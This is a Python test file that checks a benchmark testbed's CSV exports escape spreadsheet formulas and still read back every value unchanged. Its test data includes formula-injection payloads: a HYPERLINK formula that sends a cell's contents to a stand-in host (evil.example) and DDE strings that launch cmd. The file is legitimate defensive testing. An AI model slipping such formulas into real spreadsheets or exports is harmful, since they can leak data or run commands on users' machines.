"""CSV files from names and answers that somebody else chose: no cell is a formula, and all come back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from stored_cells import put, samples_of, saying
from tables import cases

from testbed.db.store import Store
from testbed.extensions.clip_benchmark import clip_benchmark_files
from testbed.extensions.published.importing import import_results
from testbed.spreadsheet import as_csv, cell, plain
from testbed.stored_results.export import save_logits
from testbed.stored_results.imagenet_testbed_table import export_csv

STARTS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "one\r=1+1",
    'a "quoted", text\r\n=1+1',
    "＝1+1",
    "-",
    "=",
    "'=1+1",
    "''=1+1",
]
NUMBERS = ["-0.5", "+1", "-1e-05", "3", "-12.", "-.5", "-3.25%", "-inf", "nan", ""]


@cases("text", FORMULAS)
def test_no_formula_is_left_one_and_each_comes_back(text: str) -> None:
    (row,) = csv.reader(io.StringIO(as_csv([[text, "plain"]]), newline=""))
    assert not row[0].startswith(tuple(STARTS))
    assert [plain(each) for each in row] == [text, "plain"]


@cases("text", NUMBERS)
def test_numbers_stay_numbers(text: str) -> None:
    assert cell(text) == text
    assert plain(text) == text


@given(st.text(st.sampled_from("=+-@\t\r\n'ab1.e%＝"), max_size=6))
def test_any_text_comes_back(text: str) -> None:
    written = cell(text)
    assert plain(written) == text
    if written.startswith(tuple(STARTS)):
        float(written.removesuffix("%"))  # a number, and nothing else


@given(st.lists(st.lists(st.text(st.sampled_from('ab,"\n 1='), max_size=4), min_size=1, max_size=3), max_size=3))
def test_other_texts_are_written_as_python_writes_them(rows: list[list[str]]) -> None:
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\n").writerows([cell(each) for each in row] for row in rows)
    assert as_csv(rows) == expected.getvalue()


@pytest.mark.parametrize("value", [-1, -0.5, np.float32(-2), None, True])
def test_values_that_are_no_texts_stay(value: object) -> None:
    assert cell(value) is value


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [each for row in csv.reader(file) for each in row]


def test_no_export_has_a_formula(tmp_path: Path) -> None:
    names = [text for text in FORMULAS if text.strip() == text and "\r" not in text]
    with Store.create(str(tmp_path / "shared.db")) as store:
        for name in names:
            put(store, name, "shown", samples_of([0, 1], ["=1+1", "@two"]), saying([0, 1]))
        export_csv(store.results.find(), tmp_path / "all.csv")
        written = cells(tmp_path / "all.csv")
        assert not [each for each in written if each.startswith(tuple(STARTS))]
        again = Store.create(str(tmp_path / "again.db"))
        import_results(again, tmp_path / "all.csv")
        assert {each.model for each in again.results.find()} == set(names)
        again.close()
        save_logits(store, "shown", tmp_path / "logits", form="csv")
        for path in (tmp_path / "logits").glob("*.csv"):
            assert all(_is_number(each) for each in cells(path) if each.startswith(tuple(STARTS)))
        records = [{**dict.fromkeys(clip_benchmark_files.COLUMNS), "model": name, "pretrained": "", "dataset": name,
                    "language": "en", "metrics": {}} for name in names]  # fmt: skip
        clip_benchmark_files.write_csv(records, tmp_path / "clip.csv")
        assert not [each for each in cells(tmp_path / "clip.csv") if each.startswith(tuple(STARTS))]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
